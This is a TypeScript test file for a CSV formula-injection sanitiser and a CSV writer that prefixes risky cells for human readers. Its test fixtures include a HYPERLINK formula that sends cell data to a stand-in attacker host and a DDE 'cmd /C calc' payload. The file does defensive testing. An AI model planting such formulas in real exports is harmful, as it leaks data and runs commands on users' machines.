import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CsvWriter } from "../../demo/writers/csv.ts";
import { spreadsheetCell } from "../../warehouse/spreadsheet.ts";
import { parseCsv } from "../demo/helpers.ts";
import { tempProject } from "../helpers/project.ts";

const DANGEROUS = /^[=+\-@\t\r]/;

describe("spreadsheetCell", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["-3", "-3"],
    ["+46701234567", "+46701234567"],
    ["-0,5", "-0,5"],
    ["Anna-Lena", "Anna-Lena"],
    ["a=b", "a=b"],
    ["", ""],
  ])("%j -> %j", (input, expected) => {
    expect(spreadsheetCell(input)).toBe(expected);
  });

  it("never leaves a formula start, and only adds one quote", () => {
    const start = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "a", "1", "'", " ");
    fc.assert(
      fc.property(start, fc.string(), (first, rest) => {
        const value = first + rest;
        const safe = spreadsheetCell(value);
        if (DANGEROUS.test(safe)) expect(safe).toMatch(/^[-+]?[\d.,]/);
        expect(safe === value || safe === `'${value}`).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});

describe("CSV files written for people", () => {
  it("a CsvWriter for people prefixes formula cells, an emulated source export keeps them as delivered", async () => {
    const project = tempProject("slm-formula-");
    try {
      const cells = ["=1+1", "@x", "-3", "plain", '=HYPERLINK("a,b")'];
      const forPeople = new CsvWriter(join(project.dir, "people.csv"), {
        encoding: "utf-8",
        delimiter: ",",
        eol: "\n",
        forPeople: true,
      });
      forPeople.row(cells);
      await forPeople.close();
      expect(parseCsv(readFileSync(join(project.dir, "people.csv"), "utf8"), ",")).toEqual([
        ["'=1+1", "'@x", "-3", "plain", `'=HYPERLINK("a,b")`],
      ]);
      const extract = new CsvWriter(join(project.dir, "extract.csv"), {
        encoding: "utf-8",
        delimiter: ",",
        eol: "\n",
      });
      extract.row(cells);
      await extract.close();
      expect(parseCsv(readFileSync(join(project.dir, "extract.csv"), "utf8"), ",")).toEqual([cells]);
    } finally {
      project.remove();
    }
  });
});
